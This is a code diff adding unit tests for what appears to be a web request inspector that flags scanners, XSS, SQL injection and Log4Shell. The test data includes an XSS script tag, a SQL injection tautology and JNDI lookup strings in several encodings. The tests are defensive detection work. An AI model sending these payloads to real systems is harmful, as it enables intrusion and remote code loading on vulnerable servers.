@@ -319,3 +319,26 @@ describe('rule table', () => {
     expect(PATTERN_RULES.get('scanner.user-agent')?.attack).toContain('T1595.002');
   });
 });
+
+describe('memoized results', () => {
+  it('gives the same findings on a repeat, with the field of each occurrence', () => {
+    const ua = 'Mozilla/5.0 (X11) sqlmap/1.8 <script>alert(1)</script>';
+    const a = inspectRequest({ path: '/', headers: { 'User-Agent': ua, 'X-One': "1' or '1'='1" } });
+    const b = inspectRequest({ path: '/', headers: { 'User-Agent': ua, 'X-One': "1' or '1'='1" } });
+    expect(b).toEqual(a);
+    expect(classes(a)).toEqual(expect.arrayContaining(['scanner', 'xss', 'sqli']));
+    // the same value in another header is reported under that header, not from the cache entry
+    const c = inspectRequest({ path: '/', headers: { 'X-Two': "1' or '1'='1" } });
+    expect(c.map((x) => x.field)).toEqual(['http.request.headers.x-two']);
+  });
+  it('still reads structural headers for lookups, in any encoding', () => {
+    for (const v of [
+      '${jndi:ldap://h/a}',
+      '%24%7Bjndi:ldap://h/a%7D',
+      '&dollar;{jndi:ldap://h/a}',
+    ]) {
+      expect(classes(inspectRequest({ path: '/', headers: { Accept: v } }))).toEqual(['log4shell']);
+    }
+    expect(inspectRequest({ path: '/', headers: { Accept: 'text/html,*/*;q=0.8' } })).toEqual([]);
+  });
+});
